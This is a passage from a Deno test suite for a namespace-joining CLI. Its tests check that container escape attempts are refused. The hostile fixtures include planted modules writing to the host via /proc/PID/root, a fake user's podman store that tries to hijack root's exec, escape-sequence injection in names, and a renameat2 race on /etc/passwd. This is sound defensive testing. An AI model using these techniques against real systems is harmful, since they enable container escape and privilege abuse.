          assertEquals(text(out.stdout), "");
        },
      );
      await t.step("-u 1000 without mnt: that uid, no groups from the container", async () => {
        const out = await new Deno.Command(Deno.execPath(), {
          args: ["run", "-A", "--quiet", "--no-lock", CLI, "exec", "-n", "net", "-u", "1000"]
            .concat([`docker:${name}`, "id", "-G"]),
          stdin: "null",
          stdout: "piped",
          stderr: "piped",
        }).output();
        assertEquals(out.code, 0, text(out.stderr));
        assert(!/\b(42|50)\b/.test(text(out.stdout)), `groups: ${text(out.stdout)}`);
      });
    } finally {
      await new Deno.Command("docker", { args: ["rm", "-f", name], stdout: "null", stderr: "null" })
        .output();
      await Deno.remove(dir, { recursive: true });
    }
  },
});

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch {
    return false;
  }
}

Deno.test({
  name: "a working directory in a deleted or /proc/self/fd host directory is refused",
  ignore: NEEDS_ROOT,
  async fn(t) {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-deleted-" });
    await using target = await makeTarget();
    const escaped = `${dir}/escaped`;
    const program = ["sh", "-c", "cd .. && touch escaped"];
    try {
      await Deno.mkdir(`${dir}/b`);
      const sitter = new Deno.Command("bash", {
        args: ["-c", `cd "$1" && rmdir "$1" && echo ready && exec sleep 1000`, "bash", `${dir}/b`],
        stdout: "piped",
      }).spawn();
      const reader = sitter.stdout.getReader();
      await reader.read();
      reader.releaseLock();
      try {
        await t.step("-w /proc/PID/cwd of a process sitting in a deleted directory", async () => {
          const out = await new Deno.Command(Deno.execPath(), {
            args: ["run", "-A", "--quiet", "--no-lock", CLI, "enter", "-t", String(target.pid)]
              .concat(["-a", `-w/proc/${sitter.pid}/cwd`, ...program]),
            stdin: "null",
            stdout: "piped",
            stderr: "piped",
          }).output();
          assertEquals(out.code, 125, text(out.stderr));
          assertEquals(text(out.stderr).trim().split("\n").length, 1, text(out.stderr));
          assertMatch(text(out.stderr), /Cannot start in this working directory: ENOENT/);
          assert(!(await exists(escaped)), "the program reached the host tree");
        });
        await t.step(
          "-W /proc/PID/cwd of it, with the host's /proc inside the target",
          async () => {
            await using flat = await makeTarget({ flags: ["-m", "-n", "-u"] });
            const out = await new Deno.Command(Deno.execPath(), {
              args: ["run", "-A", "--quiet", "--no-lock", CLI, "enter", "-t", String(flat.pid)]
                .concat(["-a", "-W", `/proc/${sitter.pid}/cwd`, ...program]),
              stdin: "null",
              stdout: "piped",
              stderr: "piped",
            }).output();
            assertEquals(out.code, 125, text(out.stderr));
            assertEquals(text(out.stderr).trim().split("\n").length, 1, text(out.stderr));
            assert(!(await exists(escaped)), "the program reached the host tree");
          },
        );
      } finally {
        sitter.kill("SIGKILL");
        await sitter.status;
        await sitter.stdout.cancel().catch(() => {});
      }
      await t.step("-W a symlink to /proc/self/fd/7, fd 7 a leaked deleted directory", async () => {
        // No pid namespace of its own: /proc/self inside is the helper (runc's WORKDIR shape).
        await using flat = await makeTarget({ flags: ["-m", "-n", "-u"] });
        await Deno.mkdir(`${dir}/c/d`, { recursive: true });
        await Deno.symlink("/proc/self/fd/7", `${dir}/c/wd`);
        const out = await new Deno.Command("bash", {
          args: [
            "-c",
            `exec 7<"$1"; rmdir "$1"; shift; exec "$@"`,
            "bash",
            `${dir}/c/d`,
            Deno.execPath(),
            ...["run", "-A", "--quiet", "--no-lock", CLI, "enter", "-t", String(flat.pid), "-a"],
            ...["-W", `${dir}/c/wd`, ...program],
          ],
          stdin: "null",
          stdout: "piped",
          stderr: "piped",
        }).output();
        assertEquals(out.code, 125, text(out.stderr));
        assertEquals(text(out.stderr).trim().split("\n").length, 1, text(out.stderr));
        assert(!(await exists(`${dir}/c/escaped`)), "the program reached the host tree");
      });
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "an empty namespace selection is refused, not a run on the host",
  ignore: NEEDS_ROOT,
  async fn(t) {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-empty-" });
    await using target = await makeTarget();
    try {
      for (const list of ["", ","]) {
        await t.step(`exec -n ${JSON.stringify(list)}`, async () => {
          const out = await new Deno.Command(Deno.execPath(), {
            args: ["run", "-A", "--quiet", "--no-lock", CLI, "exec", "-n", list]
              .concat([String(target.pid), "touch", `${dir}/ran`]),
            stdin: "null",
            stdout: "piped",
            stderr: "piped",
          }).output();
          assertEquals(out.code, 2, text(out.stderr));
          assert(!(await exists(`${dir}/ran`)), "the program ran on the host");
        });
      }
      await t.step("namespaces from JSON with __proto__ or an inherited name", () => {
        for (
          const namespaces of [
            JSON.parse('{"__proto__": true}'),
            { toString: true },
            ["toString"],
            ["constructor"],
          ]
        ) {
          let threw: unknown;
          try {
            new NsCommand("touch", { target: target.pid, namespaces, args: [`${dir}/ran`] })
              .outputSync();
          } catch (error) {
            threw = error;
          }
          assert(threw instanceof TypeError, `${JSON.stringify(namespaces)}: ${threw}`);
        }
        assert(!Deno.readDirSync(dir).some(() => true), "the program ran on the host");
      });
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "no environment key or value shows in the helper's or the program's cmdline",
  ignore: NEEDS_ROOT,
  async fn() {
    // A pid namespace: the helper stays (it relays to its child), so both can be read.
    await using target = await makeTarget();
    const key = `NSJ_SECRET_NAME_${crypto.randomUUID().slice(0, 6)}`;
    const value = `s3cr3t-${crypto.randomUUID().slice(0, 6)}`;
    const child = new NsCommand("sleep", {
      target: target.pid,
      env: { [key]: value, OTHER_KEY_X: "1" },
      clearEnv: true,
      args: ["1000"],
      stdout: "null",
      stderr: "null",
    }).spawn();
    try {
      const program = await childOf(child.pid, "sleep");
      for (const pid of [child.pid, program]) {
        const cmdline = Deno.readTextFileSync(`/proc/${pid}/cmdline`);
        for (const secret of [key, value, "OTHER_KEY_X"]) {
          assert(!cmdline.includes(secret), `pid ${pid}'s cmdline shows ${secret}`);
        }
      }
      // The program has them, in the order given.
      const environ = Deno.readTextFileSync(`/proc/${program}/environ`);
      assertEquals(environ, `${key}=${value}\0OTHER_KEY_X=1\0`);
    } finally {
      child.kill("SIGKILL");
      await child.status;
    }
  },
});

Deno.test({
  name: "--kill-on-exit: SIGKILL of nsjoin takes the program with it",
  ignore: NEEDS_ROOT,
  async fn(t) {
    await using target = await makeTarget();
    const start = (flags: string[], arg: string) =>
      new Deno.Command(Deno.execPath(), {
        args: ["run", "-A", "--quiet", "--no-lock", CLI, "exec", ...flags]
          .concat([String(target.pid), "sleep", arg]),
        stdin: "null",
        stdout: "null",
        stderr: "null",
      }).spawn();
    await t.step("exec --kill-on-exit into a pid namespace (nsjoin forks)", async () => {
      const cli = start(["--kill-on-exit"], "4243");
      const program = await childOf(cli.pid, "sleep");
      cli.kill("SIGKILL");
      await cli.status;
      await waitFor("the program to die", () => gone(program));
    });
    await t.step("without it the program lives on, as with nsenter and docker exec", async () => {
      const cli = start([], "4244");
      const program = await childOf(cli.pid, "sleep");
      cli.kill("SIGKILL");
      await cli.status;
      await new Promise((r) => setTimeout(r, 200));
      const alive = !gone(program);
      Deno.kill(program, "SIGKILL");
      assert(alive, "the program died without --kill-on-exit");
    });
    await t.step("NsCommand killOnExit, spawned from a Deno that is SIGKILLed", async () => {
      const code = `
        import { NsCommand } from "${ROOT}src/command.ts";
        const child = new NsCommand("sleep", {
          target: Deno.pid, namespaces: [], args: ["4245"], killOnExit: true,
        }).spawn();
        console.log(child.pid);
        await child.status;`;
      const deno = new Deno.Command(Deno.execPath(), { args: ["eval", code], stdout: "piped" })
        .spawn();
      const reader = deno.stdout.getReader();
      const program = Number(text((await reader.read()).value!).trim());
      reader.releaseLock();
      await waitFor("the program", () => {
        try {
          return Deno.readTextFileSync(`/proc/${program}/comm`).trim() === "sleep";
        } catch {
          return false;
        }
      });
      deno.kill("SIGKILL");
      await deno.status;
      await deno.stdout.cancel().catch(() => {});
      await waitFor("the program to die", () => gone(program));
    });
  },
});

// ---- issue 9: TypeScript inside (finding 3: inNamespaces with mnt)

/**
 * A hostile mount namespace: `unshare -m` with `dir` (a host directory holding the
 * caller's own code) covered by a bind mount of `planted`, so the same paths show the
 * target's files there. It shares the host's /proc, as a `--pid=host` container or an
 * unprivileged user's `unshare -Urm` does, so planted code that runs in this Deno reaches
 * the host through /proc/<this pid>/root: each planted file writes `marker` there.
 */
async function plantedTarget(dir: string, planted: string) {
  return await makeTarget({ flags: ["-m"], setup: `mount --bind ${planted} ${dir}` });
}

function existsNow(path: string): boolean {
  try {
    Deno.statSync(path);
    return true;
  } catch {
    return false;
  }
}

/** The planted module's side effect: a file on the host, written through /proc. */
const plantedModule = (marker: string) =>
  `Deno.writeTextFileSync(\`/proc/\${Deno.pid}/root${marker}\`, "pwned");\n` +
  `export const who = "planted"; export default who;\n`;

Deno.test({
  name: "inNamespaces with mnt never loads code from the target's files (issue 9 finding 3)",
  ignore: NEEDS_ROOT,
  async fn(t) {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-code-" });
    const planted = await Deno.makeTempDir({ prefix: "nsjoin-planted-" });
    const marker = `${await Deno.makeTempDir({ prefix: "nsjoin-marker-" })}/pwned`;
    // The caller's code on the host; the target shows planted files at the same paths.
    await Deno.writeTextFile(`${dir}/lib.js`, `export const who = "host"; export default who;\n`);
    await Deno.writeTextFile(
      `${dir}/job.ts`,
      `import { who } from "file://${dir}/lib.js";\nexport default (): string => who;\n`,
    );
    await Deno.writeTextFile(`${planted}/lib.js`, plantedModule(marker));
    await Deno.writeTextFile(`${planted}/job.ts`, plantedModule(marker));
    await Deno.writeTextFile(
      `${planted}/evil`,
      `#!/bin/sh\necho pwned > /proc/$PPID/root${marker}\n`,
      { mode: 0o755 },
    );
    await using target = await plantedTarget(dir, planted);
    const mnt = { namespaces: ["mnt"] } as const;
    try {
      await t.step("import() inside fn is refused, for file:, npm: and jsr: alike", async () => {
        // What the Worker reads at the caller's module path is the planted file.
        const seen = await inNamespaces(
          target.pid,
          (path: string) => Deno.readTextFileSync(path),
          { ...mnt, arg: `${dir}/lib.js` },
        );
        assertMatch(seen, /planted/);
        for (const url of [`file://${dir}/lib.js`, "npm:dax-sh@0.44.1", "jsr:@std/path"]) {
          await assertRejects(
            () =>
              inNamespaces(target.pid, async (u: string) => (await import(u)).default, {
                ...mnt,
                arg: url,
              }),
            Error,
            `Cannot import ${url} in fn: inside the target's mount namespace`,
          );
        }
        // eval'd code inherits the refusal; node: built-ins that load no code still work.
        await assertRejects(
          () =>
            inNamespaces(target.pid, (u: string) => eval(`import(${JSON.stringify(u)})`), {
              ...mnt,
              arg: `file://${dir}/lib.js`,
            }),
          Error,
          "Cannot import",
        );
        assertEquals(
          await inNamespaces(
            target.pid,
            async () => (await import("node:path")).basename("/a/b"),
            mnt,
          ),
          "b",
        );
        assertEquals(existsNow(marker), false, "the planted module ran in the caller's process");
      });
      await t.step("a module URL is bundled on the host: its imports are the host's", async () => {
        const url = new URL(`file://${dir}/job.ts`);
        assertEquals(await inNamespaces(target.pid, url, mnt), "host");
        assertEquals(existsNow(marker), false, "the planted module ran in the caller's process");
        // Without mnt the Worker is in the host's mount namespace: the host's files load.
        assertEquals(await inNamespaces(target.pid, url, { namespaces: ["uts"] }), "host");
      });
      await t.step(
        "no program of the target runs from inside (seccomp, in the kernel)",
        async () => {
          await assertRejects(
            () =>
              inNamespaces(target.pid, async (p: string) => await new Deno.Command(p).output(), {
                ...mnt,
                arg: `${dir}/evil`,
              }),
            Error,
            "Cannot use Deno.Command in fn",
          );
          assertEquals(
            existsNow(marker),
            false,
            "the planted program ran with the caller's privileges",
          );
          // Libraries and native addons from the target's files are refused the same way.
          for (
            const load of [() => Deno.dlopen("libc.so.6", {}), () => process.dlopen({}, "x.node")]
          ) {
            await assertRejects(() => inNamespaces(target.pid, load, mnt), Error, "dlopen in fn");
          }
          // Under the JavaScript refusal: every thread inside the target's mount namespace —
          // all of them in the evaluator's own process (stop 26), none in ours — carries the
          // filter that makes execve fail.
          const theirs = Deno.readLinkSync(`/proc/${target.pid}/ns/mnt`);
          const tasksInside = (pid: number | "self") =>
            [...Deno.readDirSync(`/proc/${pid}/task`)].map((e) => `/proc/${pid}/task/${e.name}`)
              .filter((task) => {
                try {
                  return Deno.readLinkSync(`${task}/ns/mnt`) === theirs;
                } catch {
                  return false;
                }
              });
          assertEquals(
            tasksInside("self"),
            [],
            "a thread of the caller's process is in the target",
          );
          const children = [...Deno.readDirSync("/proc")].map((e) => Number(e.name)).filter(
            (pid) => {
              try {
                // Ours, and deno (the target is a child of this process too).
                const stat = Deno.readTextFileSync(`/proc/${pid}/stat`);
                return stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1] === String(Deno.pid) &&
                  Deno.readLinkSync(`/proc/${pid}/exe`) === Deno.execPath();
              } catch {
                return false;
              }
            },
          );
          const inside = children.flatMap(tasksInside);
          assert(inside.length > 0, "expected the evaluator's threads in the target");
          for (const task of inside) {
            const status = Deno.readTextFileSync(`${task}/status`);
            assertMatch(status, /^Seccomp:\s+2$/m, `thread ${task} can execve`);
          }
        },
      );
    } finally {
      await closeNamespaceWorkers();
      for (const d of [dir, planted, marker.slice(0, marker.lastIndexOf("/"))]) {
        await Deno.remove(d, { recursive: true });
      }
    }
  },
});

Deno.test({
  name: "inNamespaces into a docker container: its planted module and programs never run",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    const owner = podmanUser();
    if (!owner) throw new Error("tests/setup.sh did not create the rootless podman user");
    await ensureImages(owner);
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-code-" });
    const c = await startContainer("docker", `nsjoin-code-${crypto.randomUUID().slice(0, 8)}`);
    const ran = `/proc/${c.pid}/root/ran`;
    try {
      await Deno.writeTextFile(`${dir}/lib.js`, `export default "host";\n`);
      await Deno.writeTextFile(
        `${dir}/job.ts`,
        `import who from "file://${dir}/lib.js";\nexport default (): string => who;\n`,
      );
      // The container plants its own module at the caller's path.
      const planted = `Deno.writeTextFileSync("/ran", "pwned"); export default "planted";`;
      await engineExec(c, [], ["sh", "-c", `mkdir -p ${dir} && echo '${planted}' > ${dir}/lib.js`]);
      const mnt = { namespaces: ["mnt"] } as const;
      await assertRejects(
        () =>
          inNamespaces(c.pid, async (u: string) => (await import(u)).default, {
            ...mnt,
            arg: `file://${dir}/lib.js`,
          }),
        Error,
        "Cannot import",
      );
      assertEquals(await inNamespaces(c.pid, new URL(`file://${dir}/job.ts`), mnt), "host");
      await assertRejects(
        () =>
          inNamespaces(
            c.pid,
            () => new Deno.Command("/bin/sh", { args: ["-c", "echo x >/ran"] }).output(),
            mnt,
          ),
        Error,
        "Cannot use Deno.Command in fn",
      );
      assertEquals(existsNow(ran), false, "code of the container ran in the caller's process");
      // What a user needs still works: the container's files, read from inside.
      assertMatch(
        await inNamespaces(c.pid, (p: string) => Deno.readTextFileSync(p), {
          ...mnt,
          arg: `${dir}/lib.js`,
        }),
        /planted/,
      );
    } finally {
      await closeNamespaceWorkers();
      await removeContainers([c]);
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- issue 9: engine state and container files

/** A unique suffix for the users, containers and files of this block. */
const STATE_RUN = Math.random().toString(36).slice(2, 8);

/** The CLI as root, with a kill timer of its own: a hang ends as `killed`, never a stuck test. */
async function cliBounded(
  args: string[],
  ms = 90_000,
): Promise<{ code: number; stdout: string; stderr: string; killed: boolean }> {
  const child = new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", "--quiet", "--no-lock", CLI, ...args],
    cwd: "/",
    env: { NO_COLOR: "1" },
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  let killed = false;
  const timer = setTimeout(() => {
    killed = true;
    try {
      child.kill("SIGKILL");
    } catch {
      // Already gone.
    }
  }, ms);
  const out = await child.output();
  clearTimeout(timer);
  return { code: out.code, stdout: text(out.stdout), stderr: text(out.stderr), killed };
}

/** A container of a fake rootless store: what the user writes into their files. */
interface FakeContainer {
  id: string;
  name: string;
  pid: number;
}

/**
 * A throwaway unprivileged user who writes a podman store of their own (storage.conf,
 * containers.json, pidfiles, config.json with PATH=$HOME/bin first) and a $HOME/bin full of
 * programs that leave a marker file when anyone runs them.
 */
async function hostileUser() {
  const u = await testUser(`nsja${STATE_RUN}${Math.random().toString(36).slice(2, 5)}`);
  const home = `/home/${u.name}`;
  const marker = `${home}/ran-as-uid`;
  const sleepers: Deno.ChildProcess[] = [];
  const chown = () => sh("chown", ["-R", `${u.uid}:${u.gid}`, home]);
  await Deno.mkdir(`${home}/bin`, { recursive: true });
  for (const p of ["id", "hostname", "true", "sh", "cat"]) {
    await Deno.writeTextFile(`${home}/bin/${p}`, `#!/bin/sh\n/usr/bin/id -u >> ${marker}\n`, {
      mode: 0o755,
    });
  }
  await Deno.mkdir(`${home}/.config/containers`, { recursive: true });
  const conf = `${home}/.config/containers/storage.conf`;
  const writeConf = () =>
    Deno.writeTextFile(
      conf,
      `[storage]\ndriver = "vfs"\ngraphroot = "${home}/g"\nrunroot = "${home}/r"\n`,
    );
  await writeConf();
  await chown();
  return {
    ...u,
    home,
    conf,
    writeConf,
    /** Whether any of the user's programs ran. */
    ran: () => {
      try {
        return Deno.readTextFileSync(marker);
      } catch {
        return "";
      }
    },
    /** Writes the store, as the user would. */
    async store(containers: FakeContainer[]) {
      const graph = `${home}/g/vfs-containers`;
      await Deno.remove(`${home}/g`, { recursive: true }).catch(() => {});
      await Deno.remove(`${home}/r`, { recursive: true }).catch(() => {});
      await Deno.mkdir(graph, { recursive: true });
      await Deno.writeTextFile(
        `${graph}/containers.json`,
        JSON.stringify(containers.map((c) => ({ id: c.id, names: [c.name] }))),
      );
      for (const c of containers) {
        await Deno.mkdir(`${graph}/${c.id}/userdata`, { recursive: true });
        await Deno.writeTextFile(
          `${graph}/${c.id}/userdata/config.json`,
          JSON.stringify({
            process: {
              env: [`PATH=${home}/bin:/usr/bin:/bin`, "HOME=/root"],
              user: { uid: 0, gid: 0 },
              cwd: "/",
            },
          }),
        );
        const run = `${home}/r/vfs-containers/${c.id}/userdata`;
        await Deno.mkdir(run, { recursive: true });
        await Deno.writeTextFile(`${run}/pidfile`, `${c.pid}\n`);
      }
      await chown();
    },
    /**
     * A process of the user: in a user and mount namespace of their own (what a rootless
     * container is), in a user namespace only, or plain on the host.
     */
    async sleeper(kind: "container" | "userns" | "host"): Promise<number> {
      const flags = kind === "container" ? ["-Urm"] : kind === "userns" ? ["-Ur"] : [];
      const args = [`--reuid=${u.uid}`, `--regid=${u.gid}`, "--clear-groups"]
        .concat(flags.length ? ["unshare", ...flags] : [], ["sleep", "100000"]);
      const child = new Deno.Command("setpriv", { args, stdin: "null", stdout: "null" }).spawn();
      sleepers.push(child);
      for (let i = 0; i < 500; i++) {
        const comm = Deno.readTextFileSync(`/proc/${child.pid}/comm`).trim();
        if (comm === "sleep") return child.pid;
        await new Promise((r) => setTimeout(r, 5));
      }
      throw new Error("the user's sleep never started");
    },
    async [Symbol.asyncDispose]() {
      for (const c of sleepers) {
        try {
          c.kill("SIGKILL");
        } catch {
          // Already gone.
        }
        await c.status;
      }
      await sh("userdel", ["-r", "-f", u.name]).catch(() => {});
    },
  };
}

/** A root process on the host (what the attack names): `sleep`, killed after. */
function rootSleeper(): Deno.ChildProcess & AsyncDisposable {
  const child = new Deno.Command("sleep", { args: ["100000"], stdin: "null" }).spawn();
  return Object.assign(child, {
    async [Symbol.asyncDispose]() {
      try {
        child.kill("SIGKILL");
      } catch {
        // Already gone.
      }
      await child.status;
    },
  });
}

const hexId = (): string => {
  const id = Array.from(
    crypto.getRandomValues(new Uint8Array(32)),
    (b) => b.toString(16).padStart(2, "0"),
  ).join("");
  // A 12-digit prefix with no letter (1 in ~280) is a PID to exec, not an ID: draw again.
  return /^\d{12}/.test(id) ? hexId() : id;
};

interface PsJsonRow {
  engine: string;
  id: string;
  name: string | null;
  pid: number;
  owner: number | null;
}

async function psJson(): Promise<PsJsonRow[]> {
  const res = await cliBounded(["ps", "--json"]);
  assertEquals([res.code, res.killed], [0, false], res.stderr);
  return JSON.parse(res.stdout);
}

Deno.test({
  name: "a user's rootless store names only processes in that user's namespaces (finding 1)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    await using user = await hostileUser();
    await using root = rootSleeper();
    const name = `rtweb-${STATE_RUN}`;
    const id = hexId();
    const own = await user.sleeper("container");

    await t.step("control: their own rootless container is listed, with its owner", async () => {
      await user.store([{ id, name, pid: own }]);
      const row = (await psJson()).find((r) => r.id === id);
      assertEquals(row && [row.engine, row.name, row.pid, row.owner], [
        "podman",
        name,
        own,
        user.uid,
      ]);
    });

    await t.step(
      "their storage.conf naming root's files: those files are not trusted",
      async () => {
        // Root's own files (a store root made) that name the user's container: only what the
        // user owns may speak for their store, so this store is empty.
        const rootStore = await Deno.makeTempDir({ prefix: "nsja-rootstore-" });
        try {
          const graph = `${rootStore}/g/vfs-containers`;
          await Deno.mkdir(`${graph}/${id}/userdata`, { recursive: true });
          await Deno.mkdir(`${rootStore}/r/vfs-containers/${id}/userdata`, { recursive: true });
          await Deno.writeTextFile(
            `${graph}/containers.json`,
            JSON.stringify([{ id, names: [name] }]),
          );
          await Deno.writeTextFile(
            `${rootStore}/r/vfs-containers/${id}/userdata/pidfile`,
            `${own}`,
          );
          await Deno.writeTextFile(
            user.conf,
            `[storage]\ngraphroot = "${rootStore}/g"\nrunroot = "${rootStore}/r"\n`,
          );
          assert(!(await psJson()).some((r) => r.id === id), "listed from root's files");
        } finally {
          await user.writeConf();
          await Deno.remove(rootStore, { recursive: true });
        }
      },
    );

    for (
      const [what, pid] of [
        ["a root process", root.pid],
        ["the user's own process on the host", await user.sleeper("host")],
        [
          "the user's process in a user namespace, in the host's mount namespace",
          await user.sleeper("userns"),
        ],
      ] as const
    ) {
      await t.step(`the store names ${what}: not listed, exec runs nothing`, async () => {
        await user.store([{ id, name, pid }]);
        for (const ref of [name, `podman:${name}`, id.slice(0, 12), `podman@${user.uid}:${name}`]) {
          const res = await cliBounded(["exec", ref, "id"]);
          assertEquals([res.code, res.killed], [125, false], `${ref}: ${res.stderr}`);
          assertEquals(res.stderr.trim().split("\n").length, 1, res.stderr);
          assertMatch(res.stderr, /Cannot find/);
        }
        assertEquals(user.ran(), "", "the user's $HOME/bin program ran (as these uids)");
        assert(!(await psJson()).some((r) => r.id === id || r.pid === pid), "listed");
      });
    }

    await t.step("hostile names are escaped in ps and in the did-you-mean hint", async () => {
      const evil = `nsjaevil${STATE_RUN}\x1b]0;owned\x07\nFORGED  row\u202e`;
      await user.store([{ id, name: evil, pid: own }]);
      const rows = await psJson();
      assertEquals(rows.find((r) => r.id === id)?.name, evil, "JSON stays exact");
      const table = await cliBounded(["ps"]);
      assertEquals(table.code, 0, table.stderr);
      // deno-lint-ignore no-control-regex -- looking for raw control bytes is the point
      assert(!/[\x00-\x09\x0b-\x1f\x7f]|\u202e/.test(table.stdout), "raw control bytes in ps");
      assert(!/^FORGED/m.test(table.stdout), "a forged row");
      assertMatch(table.stdout, /nsjaevil\w+\\x1b\]0;owned\\x07\\x0aFORGED {2}row\\xe2\\x80\\xae/);
      const hint = await cliBounded(["exec", `nsjaevil${STATE_RUN}`, "true"]);
      assertEquals(hint.code, 125, hint.stderr);
      assertEquals(hint.stderr.trim().split("\n").length, 1, hint.stderr);
      // deno-lint-ignore no-control-regex -- looking for raw control bytes is the point
      assert(!/[\x00-\x09\x0b-\x1f\x7f]/.test(hint.stderr), "raw control bytes in the hint");
      assertMatch(hint.stderr, /did you mean podman@\d+:nsjaevil\w+\\x1b/);
    });
  },
});

function _works(cmd: string, args: string[]): boolean {
  try {
    return new Deno.Command(cmd, { args, stdout: "null", stderr: "null" }).outputSync().success;
  } catch {
    return false;
  }
}

/** Tests with docker containers skip off-CI without root or dockerd; in CI they run. */
const NEEDS_DOCKER = NEEDS_ROOT || (!CI && !_works("docker", ["version"]));

/** The test image in docker (and the engines tests/setup.sh prepares). */
async function dockerImage(): Promise<void> {
  if (_works("docker", ["image", "inspect", IMAGE])) return;
  const owner = podmanUser();
  if (!owner) throw new Error("tests/setup.sh did not create the rootless podman user");
  await ensureImages(owner);
}

Deno.test({
  name:
    "a user's store cannot shadow docker's or containerd's containers, nor hang root (findings 1, 5)",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn(t) {
    await dockerImage();
    await using user = await hostileUser();
    const own = await user.sleeper("container");
    const d = await startContainer("docker", `nsja-${STATE_RUN}`);
    const ctrId = hexId();
    try {
      const task = await startCtr(ctrId);
      const taskNet = Deno.readLinkSync(`/proc/${task.pid}/ns/net`);
      // Their fake containers run in a user namespace of their own: real rootless
      // containers as far as anyone can tell, named and numbered like root's.
      await user.store([
        { id: hexId(), name: d.name, pid: own },
        { id: d.id, name: `other-${STATE_RUN}`, pid: own },
        { id: ctrId, name: `ctr-${STATE_RUN}`, pid: own },
      ]);
      /** What root's exec by name, by ID and of the containerd task joins. */
      const joinsRoots = async () => {
        for (const ref of [d.name, `docker:${d.name}`, d.id.slice(0, 12), d.id]) {
          const res = await cliBounded(["exec", ref, "hostname"]);
          assertEquals(
            { code: res.code, out: res.stdout, err: res.stderr, killed: res.killed },
            { code: 0, out: `h-${d.name}\n`, err: "", killed: false },
            ref,
          );
        }
        for (const ref of [ctrId, `containerd:${ctrId}`, ctrId.slice(0, 12)]) {
          const res = await cliBounded(["exec", ref, "/bin/readlink", "/proc/self/ns/net"]);
          assertEquals([res.code, res.stdout, res.killed], [0, `${taskNet}\n`, false], res.stderr);
        }
        assertEquals(user.ran(), "", "the user's $HOME/bin program ran");
      };

      await t.step(
        "same name, same ID: root's exec still joins docker's and containerd's",
        joinsRoots,
      );

      await t.step("ps lists root's containers with their own PIDs, the user's apart", async () => {
        const rows = await psJson();
        const of = (id: string) =>
          rows.filter((r) => r.id === id).map((r) => [r.engine, r.pid, r.owner]);
        assertEquals(of(d.id), [["docker", d.pid, null], ["podman", own, user.uid]]);
        assertEquals(of(ctrId), [["containerd", task.pid, null], ["podman", own, user.uid]]);
      });

      await t.step("storage.conf as a FIFO: ps and exec finish", async () => {
        await Deno.remove(user.conf);
        await sh("mkfifo", [user.conf]);
        await sh("chown", [`${user.uid}:${user.gid}`, user.conf]);
        assert((await psJson()).some((r) => r.id === d.id && r.pid === d.pid));
        await joinsRoots();
      });

      await t.step("storage.conf as a symlink to /dev/zero: ps and exec finish", async () => {
        await Deno.remove(user.conf);
        await Deno.symlink("/dev/zero", user.conf);
        await sh("chown", ["-h", `${user.uid}:${user.gid}`, user.conf]);
        assert((await psJson()).some((r) => r.id === d.id && r.pid === d.pid));
        await joinsRoots();
      });
    } finally {
      await removeCtr(ctrId);
      await removeContainers([d]);
    }
  },
});

/** Swaps /etc/passwd with /etc/passwd-host (a symlink out) in a loop, as fast as it can. */
const SWAP_C = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
int main(void) {
  for (;;) syscall(SYS_renameat2, AT_FDCWD, "/etc/passwd", AT_FDCWD, "/etc/passwd-host", RENAME_EXCHANGE);
}
`;

Deno.test({
  name:
    "a container's /etc/passwd swapped with a symlink to a host file never reaches the exec (finding 4)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    const dir = await Deno.makeTempDir({ prefix: "nsja-race-" });
    const host = await Deno.makeTempDir({ prefix: "nsja-hostfile-" });
    let swapper: Deno.ChildProcess | undefined;
    try {
      const root = `${dir}/rootfs`;
      await Deno.mkdir(`${root}/bin`, { recursive: true });
      await Deno.mkdir(`${root}/etc`);
      await Deno.writeTextFile(`${dir}/swap.c`, SWAP_C);
      await sh("gcc", ["-static", "-O2", "-o", `${root}/bin/swap`, `${dir}/swap.c`]);
      await Deno.writeTextFile(`${root}/etc/passwd`, "root:x:0:0:root:/root:/bin/sh\n");
      // The host file the container wants root to read: only a host-side read sees it.
      await Deno.writeTextFile(
        `${host}/passwd`,
        "root:x:0:0:root:/HOSTSECRET:/bin/sh\nhostonly:x:4242:4242::/HOSTSECRET:/bin/sh\n",
      );
      await Deno.symlink(`${host}/passwd`, `${root}/etc/passwd-host`);
      swapper = new Deno.Command("unshare", {
        // A mount namespace of its own, as a container has: exec then reads its files as
        // a container's (with mnt not joined the program would be a host program).
        args: ["-u", "-m", "chroot", root, "/bin/swap"],
        stdin: "null",
      }).spawn();
      const pid = swapper.pid;
      for (let i = 0; i < 500 && Deno.readLinkSync(`/proc/${pid}/root`) !== root; i++) {
        await new Promise((r) => setTimeout(r, 5));
      }
      assertEquals(Deno.readLinkSync(`/proc/${pid}/root`), root);

      // In-process, thousands of times: the user resolution and the exec options of a
      // container whose first process is the swapper.
      using pinned = pinProcess(pid);
      const container = new PinnedContainer(pinned, {
        engine: "docker",
        id: "0".repeat(64),
        pid,
        source: "state",
        config: { env: [], user: "", workingDir: "", runtimeEnv: false },
      });
      const homes = new Set<string>();
      let hostUser = 0;
      for (let i = 0; i < 3000; i++) {
        try {
          resolveContainerUser(pid, "hostonly");
          hostUser++;
        } catch (error) {
          if (!(error instanceof NamespaceError)) throw error;
        }
        if (i % 3 === 0) {
          try {
            homes.add(containerExecOptions(container, { namespaces: ["uts", "mnt"] }).env!.HOME);
          } catch (error) {
            // A refusal is fine (the exec would exit 125); what it must never do is read on.
            if (!(error instanceof NamespaceError)) throw error;
          }
        }
      }
      assertEquals(hostUser, 0, "a user only the host file has was resolved");
      assert(!homes.has("/HOSTSECRET"), `the host file's HOME reached the exec: ${[...homes]}`);
      // The race ran: both the file (HOME /root) and the link (no file inside: "/") were seen.
      assertEquals([...homes].sort(), ["/", "/root"]);

      // And the CLI, as root would type it.
